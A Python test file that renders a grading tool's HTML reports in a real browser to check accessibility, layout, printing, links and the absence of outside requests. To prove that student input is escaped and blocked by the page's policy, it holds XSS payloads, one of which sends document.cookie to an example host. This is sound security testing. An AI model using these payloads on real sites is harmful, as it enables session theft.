"""The report's pages in a real browser: readable by everybody, on screens and paper; nothing in them acts."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from proctor import cli

from . import classroom

pytestmark = pytest.mark.browser
ROOT = Path(__file__).parents[2]
AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"
TAKEOVER = "document.title='taken over';fetch('http://example.org/'+document.cookie)"
HOSTILE = (
    f"<script>{TAKEOVER}</script>",
    f'<img src=x onerror="{TAKEOVER}">',
    f'"\'></title></style></svg><svg onload="{TAKEOVER}"><style>*{{display:none}}</style>',
    f"<a href=\"javascript:{TAKEOVER}\">click</a><meta http-equiv=refresh content='0;url=http://example.org'>",
    "{{ 7 * 7 }}{% for x in y %}\u202e\u0000\ud800" + "w" * 180,
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A class in which everything that a student can write is hostile."""
    import os

    before = os.getcwd()
    tmp_path = tmp_path_factory.mktemp("pages")
    hostile = "<img src=x onerror=document.title=1>"
    class_: dict[str, dict[str, float | None]] = {
        f"s{n:02}": {"p1/a": float(n % 3), "p1/b": n / 2, "p2/why": None if n == 5 else 3.0}
        for n in range(12)
    }
    class_[hostile] = {"p1/a": 0.0, "p1/b": 0.0, "p2/why": 0.0}
    course = classroom.make(
        tmp_path / "course", {"p1/a": 2, "p1/b": 6, "p2/why": 3}, class_, by_hand=("p2/why",)
    )
    for n, text in enumerate(HOSTILE):
        classroom.fail(course, f"s{n:02}", "p1", {"a": ("AssertionError", text), "b": (text, text)})
        plain = text.encode("utf-8", "replace").decode()
        classroom.record(course, f"s{n:02}", flags=[plain], notes=[plain], failure=plain)
    concepts = tmp_path / "concepts.json"
    concepts.write_text('{"<b>doubling</b>": ["a"], "all": ["a", "b", "why"]}')
    command = ["report", "ps1", "--course", str(course), "--students", "--concepts", str(concepts)]
    assert cli.main(command) == 0
    yield course / "report" / "ps1"
    os.chdir(before)


@pytest.fixture
def open_page(browser: Browser) -> Iterator[Callable[..., Page]]:
    """A page that must ask for nothing and log nothing."""
    asked: list[str] = []
    contexts = []

    def open_page(path: Path, **options: object) -> Page:
        context = browser.new_context(**options)  # type: ignore[arg-type]
        contexts.append(context)
        page = context.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.goto(path.as_uri())
        return page

    yield open_page
    for context in contexts:
        for page in context.pages:
            page.evaluate("0")
        context.close()
    outside = [url for url in asked if not url.startswith("file:")]
    assert not outside


PAGES = ["index.html", "students.html", "students/0001.html", "students/0005.html"]


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_accessible_and_fitting(folder: Path, open_page: Callable[..., Page], width: int, theme: str) -> None:
    for name in PAGES:
        page = open_page(
            folder / name, viewport={"width": width, "height": 800}, color_scheme=theme, bypass_csp=True
        )
        page.evaluate(AXE.read_text(encoding="utf-8"))
        found = page.evaluate("axe.run().then(r => r.violations.map(v => v.id + ': ' + v.nodes[0].html))")
        assert found == [], name
        wide, seen = page.evaluate(
            "[document.documentElement.scrollWidth, document.documentElement.clientWidth]"
        )
        assert wide <= seen, name


def test_nothing_acts(folder: Path, open_page: Callable[..., Page]) -> None:
    """Twice over: every text is escaped, and the page's policy would stop what is not."""
    for path in sorted(folder.rglob("*.html")):
        page = open_page(path)
        assert "taken over" not in page.title()
        assert page.locator("script, img, iframe, object, form, meta[http-equiv=refresh]").count() == 0
        handlers = page.evaluate(
            "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
            ".filter(a => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value)).length"
        )
        assert handlers == 0
    page = open_page(folder / "index.html")
    assert page.locator("li", has_text="<script>").count() > 0, "it is shown as text"
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"document.title=1\">')")
    page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), {text: 'document.title=2'}))"
    )
    assert page.title() == "Report: ps1", "the policy lets something act"


def test_styled_linked_and_printed(folder: Path, open_page: Callable[..., Page], tmp_path: Path) -> None:
    page = open_page(folder / "index.html", viewport={"width": 1280, "height": 800}, color_scheme="dark")
    color = "getComputedStyle(document.body).backgroundColor"
    assert page.evaluate(color) == "rgb(22, 24, 27)", "its own style is forbidden by its own policy"
    page.emulate_media(media="print")
    assert page.evaluate(color) == "rgb(255, 255, 255)"
    assert page.pdf(path=tmp_path / "x.pdf", print_background=False).startswith(b"%PDF")
    page.emulate_media(media="screen")
    page.click("text=Each student")
    page.click("th >> text=s03")
    assert page.locator("h1").inner_text() == "s03: ps1"
    page.click("text=The class")
    targets = page.evaluate(
        "[...document.links].map(a => a.hash).filter(h => h && !document.querySelector(h))"
    )
    assert targets == []
